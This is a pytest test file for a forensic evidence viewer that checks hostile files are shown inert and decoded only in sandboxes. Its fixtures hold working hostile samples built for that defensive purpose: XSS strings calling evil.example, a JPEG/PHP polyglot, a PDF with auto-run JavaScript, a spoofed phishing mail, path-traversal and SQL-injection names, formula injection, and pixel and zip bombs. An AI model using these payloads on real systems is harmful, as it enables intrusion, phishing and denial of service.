"""DESIGN, promise 8: "Every decoding of evidence bytes runs in sandboxed child processes with no
network, limits on memory, time and output ... Nothing from evidence is ever rendered as live HTML".

Issue 6: "Hostile evidence (file names with HTML, SVG with script, PDF with JavaScript, polyglots,
100 MB of one line, bidi overrides ...) reaches no script and no shell."
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import resource
import sqlite3
import struct
import subprocess
import sys
import wave
import zipfile
import zlib
from contextlib import closing
from typing import TYPE_CHECKING, Any

import pytest
from PIL import Image

from holdfast.core.errors import IntegrityError
from holdfast.examine import _lines_of, contents, viewing
from holdfast.examine._drawn import drawn
from holdfast.examine._visible import visible
from holdfast.examine.file import evidence_from
from holdfast.examine.viewing import Asked, Shown, Source

if TYPE_CHECKING:
    from pathlib import Path

SCRIPT = '<script>alert(1)</script><img src="http://evil.example/x" onerror="alert(2)">'


def source(folder: Path, data: bytes, name: str = "file") -> Source:
    path = folder / "evidence"
    path.write_bytes(data)

    def opened() -> int:
        return os.open(path, os.O_RDONLY)

    return Source(folder / "derived", hashlib.sha256(data).hexdigest(), name, opened)


def show(folder: Path, data: bytes, name: str = "file", **asked: Any) -> Shown:
    return viewing.show(source(folder, data, name), Asked(**asked))


def png(image: Image.Image, **more: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, "PNG", **more)
    return out.getvalue()


def text(shown: Shown) -> str:
    return "\n".join(one["text"] for one in shown.content["lines"])


def test_what_acts_unseen_is_made_visible() -> None:
    assert visible("a\u202egpj.exe\x1b[2J\x00") == "a\\u202egpj.exe\\x1b[2J\\x00"
    assert (
        visible("\u0645\u06cc\u200c\u062e\tb\nc\u00a0d") == "\u0645\u06cc\u200c\u062e\tb\nc\u00a0d"
    )
    assert visible("pay\u200dpal") == "pay\\u200dpal"


def test_text_in_pages_without_reading_the_rest(tmp_path: Path) -> None:
    lines = [f"line {number} é" for number in range(5000)]
    data = "\n".join(lines).encode()
    (tmp_path / "text").write_bytes(data)
    file = evidence_from(tmp_path / "text")
    got: list[str] = []
    for number in range(_lines_of.page(file, 0).pages):
        for one in _lines_of.page(file, number).lines:
            got.append(one.text)
            assert data[one.offset :].startswith(one.text.encode())
    assert got == lines
    shown = show(tmp_path, data, page=1)
    assert (shown.viewer, shown.content["encoding"], shown.more) == ("text", "utf-8", True)
    assert text(shown) == "\n".join(one.text for one in _lines_of.page(file, 1).lines)


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-8", "cp1252"])
def test_one_line_of_many_pages_loses_nothing(tmp_path: Path, encoding: str) -> None:
    whole = "gr\u00fcsse aus dem Wald " * 9000 + "\U0001f332" * 9000 * encoding.startswith("utf")
    mark = "\ufeff" if encoding.startswith("utf-16") else ""
    (tmp_path / "text").write_bytes((mark + whole).encode(encoding))
    file = evidence_from(tmp_path / "text")
    pages = [_lines_of.page(file, number) for number in range(_lines_of.page(file, 0).pages)]
    assert {one.encoding for one in pages} == {encoding}
    assert not any(one.damaged for one in pages)
    assert "".join(line.text for one in pages for line in one.lines) == whole


def test_a_hundred_megabytes_of_one_line_cost_a_page(tmp_path: Path) -> None:
    """Measured: this process, which is the server's, doesn't grow by what the file is long."""
    path = tmp_path / "evidence"
    with path.open("wb") as out:
        for _ in range(100):
            out.write(b"A" * (1 << 20))
    with path.open("rb") as stream:
        item = hashlib.file_digest(stream, "sha256").hexdigest()
    here = Source(tmp_path / "derived", item, "x", lambda: os.open(path, os.O_RDONLY))
    viewing.show(here, Asked(page=1))  # what is loaded once is loaded
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for viewer in ("text", "hex"):
        shown = viewing.show(here, Asked(viewer=viewer, page=3000))
        assert not shown.failed
        assert len(json.dumps(shown.as_json())) < 100_000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 8 << 10  # kilobytes


def test_svg_and_html_are_text(tmp_path: Path) -> None:
    for data in (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>',
        f"<!doctype html><body>{SCRIPT}</body>",
    ):
        shown = show(tmp_path, data.encode())
        assert (shown.viewer, shown.pictures) == ("text", {})
        assert text(shown) == data


def test_a_picture_is_made_anew_and_blurred_first(tmp_path: Path) -> None:
    image = Image.effect_noise((900, 600), 90).convert("RGB")
    for x in range(450):
        for y in range(0, 600, 7):
            image.putpixel((x, y), (255, 0, 0))
    made = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = f"Camera{SCRIPT}\u202e"
    image.save(made, "JPEG", exif=exif, comment=SCRIPT.encode())
    data = made.getvalue() + b"<?php system('id'); ?>" + SCRIPT.encode()  # a polyglot
    shown = show(tmp_path, data)
    assert (shown.viewer, shown.kind) == ("picture", "picture")
    assert shown.content["width"] == 900
    assert any("Camera" in value for _, value in shown.content["facts"])
    assert "\u202e" not in json.dumps(shown.content, ensure_ascii=False)
    for name in ("blurred", "clear"):
        out = viewing.picture(shown, name)
        assert not any(one in out for one in (b"script", b"php", b"Camera", b"evil"))
        with Image.open(io.BytesIO(out)) as again:
            assert again.info == {}
            # What is left of 900 pixels in the blurred one: 20, whatever its size.
            few = again.resize((20, 13)).resize(again.size) if name == "blurred" else again
            assert again.size == (few.size if name == "blurred" else (900, 600))


def test_a_bomb_of_pixels_is_not_decoded(tmp_path: Path) -> None:
    """A PNG of 60,000 x 60,000: 3.6 GB of pixels from a few bytes."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)

    def chunk(name: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    packed = zlib.compress(b"\0" * 4_000_000)
    data = (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    )
    shown = show(tmp_path, data)
    assert "60000 x 60000 pixels are more than 100000000" in shown.failed
    assert shown.file.viewers == ("picture", "hex")


def pdf(script: str) -> bytes:
    """Return a PDF of one page that would run a script when it is opened."""
    stream = b"BT /F1 24 Tf 20 100 Td (Invoice 4711) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R "
        b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /S /JavaScript /JS (%s) >>" % script.encode(),
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % at for at in places)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
    return bytes(out)


def test_a_pdf_is_pictures_and_text_and_its_script_is_counted(tmp_path: Path) -> None:
    shown = show(tmp_path, pdf("app.alert(1); this.submitForm('http://evil.example/')"))
    assert (shown.viewer, shown.pages) == ("pdf", 1)
    assert "Invoice 4711" in shown.content["text"]
    assert any("1 scripts, which are not run" in note for note in shown.notes)
    with Image.open(io.BytesIO(viewing.picture(shown, "clear"))) as page:
        assert page.size == (900, 600)
        assert len(page.getcolors(1 << 20) or []) > 2  # the letters are there


MAIL = f"""\
From: =?utf-8?q?J=C3=BCrgen?= <j@bank.example>
To: victim@home.example
Subject: =?utf-8?q?exe=E2=80=AEgpj?=
Date: Tue, 3 Feb 2026 10:00:00 +0100
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8

<p>Please <a href="http://evil.example/login">pay</a></p>{SCRIPT}
--b
Content-Type: application/pdf; name="../../../etc/x.pdf"
Content-Disposition: attachment
Content-Transfer-Encoding: base64

JVBERi0=
--b--
"""


def test_mail_is_text_with_its_attachments_as_a_list(tmp_path: Path) -> None:
    shown = show(tmp_path, MAIL.encode())
    headers = dict(shown.content["headers"])
    assert shown.viewer == "mail"
    assert headers["from"] == "Jürgen <j@bank.example>"
    assert headers["subject"] == "exe\\u202egpj"
    assert shown.content["text"].strip() == "Please pay <http://evil.example/login>"
    (attached,) = shown.content["attachments"]
    assert ".." not in attached["path"].split("/")
    inside = show(tmp_path, MAIL.encode(), path=attached["path"], viewer="hex")
    assert inside.content["rows"][0][2] == "%PDF-"


def test_a_mailbox_is_a_conversation(tmp_path: Path) -> None:
    said = [
        f"From x@y.example Tue Feb  3 10:0{number}:00 2026\nFrom: {who}@y.example\n"
        f"Subject: Re: money\nDate: Tue, 3 Feb 2026 10:0{number}:00 +0000\n\n{body}\n\n"
        for number, (who, body) in enumerate(
            [("ann", "How much?"), ("bob", "> How much?\n\n500"), ("ann", "> 500\n\nFine")]
        )
    ]
    shown = show(tmp_path, "".join(said).encode(), viewer="chat")
    assert [one["text"] for one in shown.content["bubbles"]] == ["How much?", "500", "Fine"]
    assert [one["voice"] for one in shown.content["bubbles"]] == [0, 1, 0]
    assert shown.file.viewers[:2] == ("mail", "chat")
    assert show(tmp_path, "".join(said).encode(), page=1).content["number"] == 2


def test_tables_in_pages(tmp_path: Path) -> None:
    place = tmp_path / "x.db"
    with closing(sqlite3.connect(place)) as base:
        base.execute('CREATE TABLE "a""; DROP TABLE b" (x, y)')
        base.execute("CREATE TABLE people (name, photo)")
        base.executemany(
            "INSERT INTO people VALUES (?, ?)", ((f"P{n}", b"\1" * n) for n in range(150))
        )
        base.execute("CREATE VIEW evil AS SELECT load_extension('/tmp/x')")
        base.commit()
    shown = show(tmp_path, place.read_bytes(), part="people", page=1)
    assert shown.content["parts"] == ['a"; DROP TABLE b', "people"]
    assert shown.content["columns"] == ["rowid", "name", "photo"]
    assert (len(shown.content["rows"]), shown.more) == (50, False)
    assert shown.content["rows"][0][:2] == ["101", "P100"]
    assert "no such table" in show(tmp_path, place.read_bytes(), part="evil").failed

    table = show(tmp_path, b'name;sum\n"=HYPERLINK(1)";3\nb;"4;5"\n')
    assert (table.viewer, table.content["columns"]) == ("delimited", ["name", "sum"])
    assert table.content["rows"] == [["=HYPERLINK(1)", "3"], ["b", "4;5"]]


def test_sound_is_told_of_and_not_decoded(tmp_path: Path) -> None:
    made = io.BytesIO()
    with wave.open(made, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes(b"\0\0" * 16_000)
    shown = show(tmp_path, made.getvalue())
    assert shown.content == {"seconds": 2, "size": len(made.getvalue()), "type": "audio/wav"}


def test_files_inside_are_found_by_the_examinations_paths(tmp_path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as packed:
        packed.writestr(f"{SCRIPT[:40]}.txt", "deep")
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as packed:
        packed.writestr("../../evil.sh", "one")
        packed.writestr("in.zip", inner.getvalue())
        for number in range(250):
            packed.writestr(f"many/{number:03d}", b"")
    here = source(tmp_path, outer.getvalue())
    first, second = (contents.of(here, "", page) for page in (0, 1))
    paths = [one.path for one in (*first.members, *second.members)]
    assert (len(paths), first.more, second.more) == (252, True, False)
    assert paths[:3] == ["__/__/evil.sh", "in.zip", "many/000"]
    (deep,) = contents.of(here, "in.zip", 0).members
    shown = viewing.show(here, Asked(path=deep.path))
    assert text(shown) == "deep"
    assert shown.file.sha256 == hashlib.sha256(b"deep").hexdigest()
    assert viewing.show(here, Asked(path="in.zip/none")).failed == "there is no such file inside it"


def test_what_unfolds_without_end_is_stopped(tmp_path: Path) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as out, out.open("zeros", "w") as sink:
        for _ in range(64):
            sink.write(bytes(1 << 20))
    here = source(tmp_path, packed.getvalue())
    bounds = viewing.Bounds(output=16 << 20)
    assert "more than 16777216 bytes" in viewing.show(here, Asked(path="zeros"), bounds).failed


def test_a_view_is_kept_and_damage_makes_it_anew(tmp_path: Path) -> None:
    data = png(Image.new("RGB", (40, 40), "red"))
    here = source(tmp_path, data)
    made = viewing.show(here, Asked())
    closed = Source(here.derived, here.item, here.name, lambda: pytest.fail("it was not kept"))
    assert viewing.show(closed, Asked()).digest == made.digest
    (kept,) = (here.derived / here.item / "views").iterdir()
    (kept / "clear.png").write_bytes(b"\x89PNG<script>")
    again = viewing.show(here, Asked())
    assert again.digest == made.digest
    assert viewing.picture(again, "clear").startswith(b"\x89PNG\r\n")


@pytest.mark.parametrize(
    "spoil",
    [
        lambda data: data[:-12] + b"\0\0\0\5tEXtalert" + bytes(4) + data[-12:],
        lambda data: data + SCRIPT.encode(),
        lambda data: SCRIPT.encode() + data,
        lambda data: data[:16] + struct.pack(">II", 9999, 9999) + data[24:],
    ],
)
def test_a_child_that_was_taken_over_can_pass_on_pixels_only(tmp_path: Path, spoil: Any) -> None:
    data = png(Image.new("RGB", (40, 30), "red"))

    def told(data: bytes) -> dict[str, Any]:
        (tmp_path / "clear.png").write_bytes(data)
        return {"height": 30, "sha256": hashlib.sha256(data).hexdigest(), "width": 40}

    assert drawn(tmp_path, "clear", told(data)).width == 40
    with pytest.raises(IntegrityError):
        drawn(tmp_path, "clear", told(spoil(data)))


def test_the_house_names_viewers_without_loading_a_decoder() -> None:
    """ "Every decoding of evidence bytes ... runs in sandboxed child processes"."""
    code = (
        "import sys; from holdfast.examine import interfaces, viewing; viewing.described(); "
        "print(len(interfaces.viewers()), "
        "{'PIL', 'charset_normalizer', 'pypdfium2', 'selectolax'} & set(sys.modules))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    count, left = done.stdout.split(maxsplit=1)
    assert int(count) >= 9
    assert left.strip() == "set()"
